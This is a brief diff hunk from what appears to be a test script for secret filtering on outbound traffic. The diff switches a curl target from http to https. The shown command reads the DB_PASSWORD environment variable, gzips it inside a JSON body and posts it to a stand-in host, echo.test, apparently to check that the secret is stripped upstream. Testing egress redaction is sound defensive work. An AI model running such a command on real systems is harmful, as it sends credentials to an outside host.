@@ -4,4 +4,4 @@
 # upstream-must-not-see: DB_PASSWORD
 printf '{"note":"x","p":"%s"}' "$DB_PASSWORD" | gzip -c |
   curl -sS -m 10 -f -H 'Content-Encoding: gzip' -H 'Content-Type: application/json' \
-    --data-binary @- http://echo.test/allowed/gz
+    --data-binary @- https://echo.test/allowed/gz
